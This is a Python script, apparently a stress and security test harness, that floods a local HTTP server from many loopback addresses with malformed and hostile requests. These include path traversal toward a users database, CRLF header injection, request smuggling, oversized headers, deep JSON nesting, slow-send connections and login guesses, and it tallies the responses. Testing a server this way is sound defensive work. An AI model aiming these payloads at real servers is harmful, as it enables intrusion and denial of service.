"""A program that attacks a server from many addresses of this machine for some seconds.

``python attack.py PORT SECONDS`` prints as JSON the number of attacks of each kind and of each answer.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import random
import sys
import time
from collections import Counter

HOST = b"Host: localhost\r\n"
UPGRADE = (
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
    + b"A" * 22
    + b"==\r\n"
)
ADDRESSES = itertools.cycle(f"127.0.1.{i}" for i in range(1, 251))
made: Counter[str] = Counter()
answers: Counter[str] = Counter()

LOGIN = b"POST /api/access/login HTTP/1.1\r\n" + HOST
JSON = b"Content-Type: application/json\r\n"
GUESS = b'{"name": "anna", "password": "a guess at it"}'


def get(target: bytes, headers: bytes = b"") -> bytes:
    return b"GET " + target + b" HTTP/1.1\r\n" + HOST + headers + b"\r\n"


def length(body: bytes) -> bytes:
    return b"Content-Length: %d\r\n\r\n" % len(body) + body


PLAIN = {
    "get": get(b"/look"),
    "pipeline": get(b"/look") * 50,
    "traversal": get(b"/page/..%2f..%2f..%2fusers.db"),
    "plain traversal": get(b"/page/../../users.db"),
    "nul": get(b"/a%00b"),
    "raw nul": get(b"/a\x00b"),
    "bad utf-8": get(b"/\xff\xfe"),
    "long target": get(b"/" + b"a" * 12_000),
    "long query": get(b"/look?" + b"a=b&" * 2500),
    "huge header": get(b"/", b"X: " + b"a" * 100_000 + b"\r\n"),
    "many headers": get(b"/", b"X: a\r\n" * 1500),
    "folded header": get(b"/", b"X: a\r\n b\r\n"),
    "injection": get(b"/login?next=%0d%0aSet-Cookie:%20a=b", b"Accept: text/html\r\n"),
    "two lengths": LOGIN + b"Content-Length: 3\r\nContent-Length: 9\r\n\r\nabc",
    "smuggled": LOGIN + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX",
    "smuggled in reverse": LOGIN + b"Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nX",
    "smuggled by spaces": LOGIN + b"content-length : 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX",
    "same length twice": LOGIN + b"Content-Length: 3\r\ncontent-length: 3\r\n\r\nabc",
    "list of lengths": LOGIN + b"Content-Length: 3, 3\r\n\r\nabc",
    "same coding twice": LOGIN + b"Transfer-Encoding: chunked\r\n" * 2 + b"\r\n0\r\n\r\n",
    "old and chunked": LOGIN.replace(b"1.1", b"1.0") + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "bad chunk": LOGIN + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
    "huge length": LOGIN + b"Content-Length: 99999999999\r\n\r\n{",
    "negative length": LOGIN + b"Content-Length: -1\r\n\r\n{",
    "nesting": LOGIN + JSON + length(b"[" * 60_000),
    "guess": LOGIN + JSON + length(GUESS),
    "odd type": LOGIN + b"Content-Type: text/\xfcml; charset=nonsense\r\n" + length(GUESS),
    "odd method": b"BREW /look HTTP/1.1\r\n" + HOST + b"\r\n",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "two hosts": get(b"/", HOST),
    "old": b"GET / HTTP/1.0\r\n\r\n",
    "version 2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "tls hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"a" * 500,
    "junk": bytes(range(256)) * 40,
    "upgrade": get(b"/live", UPGRADE),
    "upgrade elsewhere": get(b"/look", UPGRADE) + b"\xff" * 5000,
    "odd upgrade": get(b"/look", b"Connection: upgrade\r\nUpgrade: h2c\r\n"),
}
"""Attacks that are sent in one piece."""


async def attack(port: int, ends: float, kinds: list[str], rng: random.Random) -> None:
    """Run one attacker, connection after connection."""
    while time.monotonic() < ends:
        kind = rng.choice(kinds)
        made[kind] += 1
        try:
            async with asyncio.timeout(2):
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", port, local_addr=(next(ADDRESSES), 0)
                )
                try:
                    if kind == "slow":
                        for byte in b"GET / HTTP/1.1\r\nX: aaaaaaaaaaaaaaaaaa":
                            writer.write(bytes([byte]))
                            await writer.drain()
                            await asyncio.sleep(0.05)
                    elif kind == "silent":
                        await asyncio.sleep(1)
                    else:
                        writer.write(PLAIN[kind])
                        line = await reader.readline()
                        answers[
                            line.split(b" ")[1].decode() if line.startswith(b"HTTP/1.1 ") else "closed"
                        ] += 1
                finally:
                    writer.close()
        except OSError:
            answers["cut off"] += 1
            await asyncio.sleep(0.01)


async def main(port: int, seconds: float) -> None:
    """Run 200 attackers at once."""
    ends = time.monotonic() + seconds
    rng = random.Random(7)
    kinds = [*PLAIN, "slow", "silent"]
    await asyncio.gather(*(attack(port, ends, kinds, rng) for _ in range(200)))
    print(json.dumps({"made": made, "answers": answers}))


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), float(sys.argv[2])))
